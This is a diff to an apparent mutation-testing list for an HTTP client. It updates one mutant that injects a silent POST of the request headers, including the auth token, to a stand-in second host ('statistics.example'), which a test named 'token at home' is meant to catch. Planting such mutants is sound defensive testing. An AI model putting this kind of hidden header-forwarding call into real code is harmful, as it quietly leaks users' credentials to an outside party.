@@ -26,9 +26,9 @@ export const wireMutants: readonly Mutant[] = [
   {
     title: 'the token goes to a second host as well',
     file: 'lib/http/http-client.ts',
-    find: '    return wxRequest({\n',
+    find: '    return (this.options.exchange || wxRequest)({\n',
     replace:
-      "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n    return wxRequest({\n",
+      "    wxRequest({ url: 'https://statistics.example/', method: 'POST', header, timeout: 1000 }).catch(() => undefined);\n    return (this.options.exchange || wxRequest)({\n",
     caughtBy: 'token at home',
   },
   {
